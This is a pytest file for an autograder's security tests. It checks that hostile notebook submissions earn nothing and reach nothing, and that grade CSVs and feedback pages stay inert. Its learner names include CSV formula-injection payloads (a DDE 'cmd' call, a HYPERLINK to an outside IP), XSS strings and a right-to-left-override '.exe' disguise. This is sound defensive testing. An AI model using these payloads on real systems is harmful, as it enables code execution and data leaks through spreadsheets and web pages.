"""A class of honest and hostile learners, graded in one batch: all that issues from it."""

import csv
import os
import re
import socket
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hostile.attacks import ATTACKS
from hostile.course import FULL, SECRET, Course
from hostile.forgeries import CASES

import mechanisms

HONEST = ("honest-1", "honest-2", "honest-3")
NAMES = {
    "name-formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"grades")',
    "name-plus": "+1+1",
    "name-minus": "-Ana",
    "name-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name-tab": "\t=1+1",
    "name-return": "\r=1+1",
    "name-separator": "x;=1+1",
    "name-wide": "\uff1d1+1",
    "name-html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "name-quote": 'O\'Brien "Bo" & </title>',
    "name-turned": "abc\u202egnp.exe",
}


# Few tests with loops, not many tests: `make test` deals tests out to two processes, and each
# process that gets one of these grades the whole class.


@dataclass
class Day:
    """The course after grading."""

    course: Course
    status: int
    folder: Path
    connections: int


@pytest.fixture(scope="module")
def day(isolation: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Day]:
    top = tmp_path_factory.mktemp("day")
    # In the open: what keeps learner code from it must be the sandbox.
    for folder in (*top.parents[:2], top):
        os.chmod(folder, 0o755)
    shared = top / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    planted = shared / "planted"
    planted.write_text(SECRET, encoding="ascii")
    who = [*HONEST, *(f"atk-{n}" for n in ATTACKS), *(f"odd-{n}" for n in CASES)]
    everybody = [{"learner": w, "name": NAMES.get(w, w)} for w in [*who, *NAMES, "left-1"]]
    course = Course(top / "course", everybody, hostile=True)
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        fields = {
            "planted": planted,
            "folder": shared,
            "port": server.getsockname()[1],
            "package": Path(mechanisms.__file__).parent,
            "pid": os.getpid(),
        }
        for name, source in ATTACKS.items():
            course.attack(f"atk-{name}", source.format(**fields))
        for name, case in CASES.items():
            case.trick(course, f"odd-{name}")
        for learner in (*HONEST, *NAMES):
            course.hand_in(f"{learner}.ipynb", course.solved(learner))
        lines = course.roster.read_text(encoding="utf-8").splitlines(keepends=True)
        left = [line for line in lines if not line.startswith("left-1")]
        course.roster.write_text("".join(left), encoding="utf-8")
        status = course.grade("--feedback", str(top / "feedback"), "--jobs", "2", seconds=1)
        server.settimeout(0)
        connections = 0
        try:
            server.accept()
            connections = 1
        except OSError:
            pass
        yield Day(course, status, top, connections)


def test_nobody_is_missing(day: Day) -> None:
    assert day.status == 1  # some were refused
    expected = {*HONEST, *NAMES, *(f"atk-{n}" for n in ATTACKS), *(f"odd-{n}" for n in CASES)}
    assert set(day.course.rows()) == expected
    with (day.course.folder / "grades.csv").open(newline="", encoding="utf-8") as file:
        assert len(list(csv.reader(file))) == len(expected) + 1


def test_the_honest_keep_full_marks(day: Day) -> None:
    rows = day.course.rows()
    for learner in (*HONEST, *NAMES):
        row = rows[learner]
        assert (row["status"], float(row["total"]), row["reason"]) == ("graded", FULL, ""), learner


def test_no_attack_earns_anything(day: Day) -> None:
    rows, submissions = day.course.rows(), day.course.submissions()
    for name in ATTACKS:
        row = rows[f"atk-{name}"]
        assert (row["status"], row["total"], row["exam-decay"]) == ("graded", "0", "0"), name
        assert submissions[f"atk-{name}.ipynb"]["status"] == "counts", name


def test_attacks_reach_nothing(day: Day) -> None:
    assert day.connections == 0
    assert [p.name for p in (day.folder / "shared").iterdir()] == ["planted"]
    assert not list(day.folder.rglob("stolen*"))
    assert not Path("stolen-answer").exists()
    assert not list(day.folder.parent.rglob("slipped*"))


def test_what_is_broken_or_forged_gets_what_it_deserves(day: Day) -> None:
    rows, submissions = day.course.rows(), day.course.submissions()
    for name, case in CASES.items():
        row = rows[f"odd-{name}"]
        assert float(row["total"]) == case.total, name
        assert row["practice"] == case.practice, name
        mine = [s for file, s in submissions.items() if re.match(rf"odd-{name}(\.|/)", file)]
        assert mine, name
        assert {s["status"] for s in mine} <= {case.status, "superseded"}, name
        assert case.reason in " ".join([row["reason"], *(s["reason"] for s in mine)]), name
        if case.status == "refused":
            assert row["status"] == "missing", name
            assert all(s["reason"] for s in mine), name


def test_of_ten_thousand_files_one_counts(day: Day) -> None:
    mine = [
        row
        for file, row in day.course.submissions().items()
        if file.startswith("odd-ten-thousand-files.zip/")
    ]
    assert len(mine) == 10_000
    assert [row["file"].rpartition("/")[2] for row in mine if row["status"] == "counts"] == [
        "try-9999.ipynb"
    ]
    assert {row["status"] for row in mine} == {"counts", "superseded"}


def test_no_cell_of_any_table_is_a_formula(day: Day) -> None:
    checked = 0
    for path in day.course.folder.glob("grades*.csv"):
        text = path.read_text(encoding="utf-8")
        for separator in (",", ";", "\t"):
            for row in csv.reader(text.splitlines(), delimiter=separator):
                for cell in row:
                    checked += 1
                    number = re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
                    assert number or not re.match(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)
    assert checked > 1000
    shown = {learner: row["name"] for learner, row in day.course.rows().items()}
    assert shown["name-minus"] == "'-Ana"
    assert shown["name-quote"] == 'O\'Brien "Bo" & </title>'
    assert shown["name-turned"] == "abcgnp.exe"


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}


def test_feedback_runs_nothing_and_loads_nothing(day: Day) -> None:
    pages = {p.stem: p.read_text(encoding="utf-8") for p in (day.folder / "feedback").iterdir()}
    assert set(pages) == set(day.course.rows())
    for page in pages.values():
        tags = Tags(page)
        assert not tags.names & {"script", "img", "link", "iframe", "object", "form", "a", "b"}
        assert not {a for a in tags.attributes if a.startswith("on") or a in ("src", "href")}
        assert SECRET not in page
    assert "&lt;script&gt;alert(1)" in pages["name-html"]


def test_feedback_gives_away_no_other_key(day: Day) -> None:
    keys = {
        learner: re.search(r"[\d.]+", day.course.answers(learner)["exam-dose"])
        for learner in HONEST
    }
    for learner, own in keys.items():
        page = (day.folder / "feedback" / f"{learner}.html").read_text(encoding="utf-8")
        assert own
        assert own[0] in page
        for other, key in keys.items():
            assert key
            assert other == learner or key[0] not in page
